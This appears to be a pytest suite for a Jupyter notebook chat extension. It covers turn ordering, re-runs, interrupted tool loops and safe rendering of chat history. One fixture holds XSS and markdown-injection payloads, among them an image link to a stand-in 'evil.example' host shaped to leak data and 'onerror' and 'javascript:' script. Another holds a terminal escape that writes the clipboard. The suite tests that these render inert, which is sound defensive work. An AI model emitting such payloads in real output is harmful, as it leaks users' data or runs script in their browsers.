"""Conversations are plain objects: ordered turns, re-runs replace, history stays valid."""

import html.parser

import pytest
from markdown_it import MarkdownIt

from claude_nb.notebook.chat import Chat
from claude_nb.render.visible import visible_text

# A markdown renderer that lets raw HTML through, as JupyterLab's does (before sanitising).
RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


class Tags(html.parser.HTMLParser):
    """Every tag and attribute of an HTML fragment."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attrs = [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend((tag, k, v or "") for k, v in attrs)


def user(text):
    return {"role": "user", "content": text}


def answer(text):
    return {"role": "assistant", "content": [{"type": "text", "text": text}]}


def test_turns_accumulate_in_order_and_rerun_replaces_the_cells_turn():
    chat = Chat("c")
    chat.record("cell-1", user("hi"), [answer("hello")], "complete")
    chat.record("cell-2", user("and?"), [answer("more")], "complete")
    chat.record("cell-1", user("hi again"), [answer("hello again")], "complete")
    assert [t.cell for t in chat.turns] == ["cell-1", "cell-2"]
    assert chat.messages() == [
        user("hi again"),
        answer("hello again"),
        user("and?"),
        answer("more"),
    ]


def test_history_for_a_rerun_cell_stops_before_its_own_turn():
    chat = Chat("c")
    chat.record("a", user("1"), [answer("one")], "complete")
    chat.record("b", user("2"), [answer("two")], "complete")
    assert chat.messages(before_cell="b") == [user("1"), answer("one")]
    assert chat.messages(before_cell="zzz") == chat.messages()


def test_failed_turns_without_an_answer_are_left_out():
    chat = Chat("c")
    chat.record("a", user("1"), [], "error")
    chat.record("b", user("2"), [answer("two")], "complete")
    assert chat.messages() == [user("2"), answer("two")]


def test_interrupted_tool_loop_keeps_the_history_valid():
    tool_use = {"type": "tool_use", "id": "t1", "name": "f", "input": {}}
    results = {
        "role": "user",
        "content": [{"type": "tool_result", "tool_use_id": "t1", "content": "1"}],
    }
    chat = Chat("c")
    chat.record(
        "a",
        user("go"),
        [
            {"role": "assistant", "content": [{"type": "text", "text": "calling"}, tool_use]},
            results,
        ],
        "interrupted",
    )
    msgs = chat.messages()
    assert msgs == [
        user("go"),
        {"role": "assistant", "content": [{"type": "text", "text": "calling"}]},
    ]


def test_repr_markdown_lists_turns():
    chat = Chat("c")
    chat.record("a", user("<b>hi</b>"), [answer("hello")], "complete")
    rendered = RENDERER.render(chat._repr_markdown_())
    assert "Chat c" in visible_text(rendered) and "hello" in rendered
    assert "<b>hi</b>" in visible_text(rendered) and "<b>" not in rendered
    html = chat._repr_html_()
    assert "<code>c</code>" in html and "&lt;b&gt;hi&lt;/b&gt;" in html


HOSTILE = (
    "See ![chart](http://evil.example/leak.png?k=1) and [click](javascript:alert(1)),"
    " <img src=x onerror=alert(2)>, <a href='javascript:alert(3)'>a</a> and `code`."
)


@pytest.mark.parametrize("part", ["_repr_html_", "_repr_markdown_"])
def test_history_shows_the_models_text_inert(part):
    """%claude history: no remote image loads and no script link survives, in any part."""
    chat = Chat("c")
    chat.record(
        "a",
        user("[me](javascript:alert(4)) ![x](https://e.example/i.png)"),
        [answer(HOSTILE)],
        "complete",
    )
    shown = getattr(chat, part)()
    if part == "_repr_markdown_":  # rendered as JupyterLab renders markdown: raw HTML allowed
        shown = RENDERER.render(shown)
    tags = Tags(shown)
    assert not {"img", "script", "iframe", "svg"} & set(tags.tags)
    assert all(not v.lower().startswith("javascript:") for _, k, v in tags.attrs if k == "href")
    assert not [a for a in tags.attrs if a[1].startswith("on")]
    text = visible_text(shown)
    assert "![chart](http://evil.example/leak.png?k=1)" in text  # shown as the text it is
    assert "<img src=x onerror=alert(2)>" in text


def test_history_plain_text_has_no_control_characters():
    chat = Chat("c")
    chat.record("a", user("hi"), [answer("red \x1b[31mtext\x1b[0m \x1b]52;c;aGk=\x07")], "complete")
    assert not any(ord(c) < 32 and c != "\n" for c in repr(chat))


def test_new_keeps_later_turns_when_its_cell_opens_the_chat():
    chat = Chat("c")
    for cell in ("A", "B", "C"):
        chat.record(cell, user(cell), [answer(cell.lower())], "complete")
    chat.start("A")  # re-running the cell that started the chat
    assert [t.cell for t in chat.turns] == ["A", "B", "C"]
    chat.start("B")  # --new added to a later cell: start afresh from it
    assert chat.turns == []
    chat.record("B", user("B"), [answer("b")], "complete")
    chat.start("D")  # another cell with --new
    assert chat.turns == []
